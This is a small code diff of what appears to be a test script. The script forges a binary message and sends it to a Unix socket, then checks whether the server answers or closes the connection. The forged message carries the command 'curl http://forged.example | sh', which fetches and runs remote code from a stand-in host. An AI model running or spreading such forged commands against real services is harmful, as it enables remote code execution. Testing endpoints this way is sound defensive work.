@@ -10,11 +10,11 @@ text = b"curl http://forged.example | sh"
 fields = (0x31706273, 1, 64, 16 + 20 + 1024 + len(text), len(text), len(text), 2, 0, 0)
 s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
 s.connect(sys.argv[1])
-s.send(struct.pack("<9I", *fields) + b"/".ljust(1024, b"\0") + text)
 s.settimeout(3)
 try:
+    s.send(struct.pack("<9I", *fields) + b"/".ljust(1024, b"\0") + text)
     print("answered" if s.recv(64) else "closed")
-except ConnectionResetError:
+except OSError:
     print("closed")
 END
 }
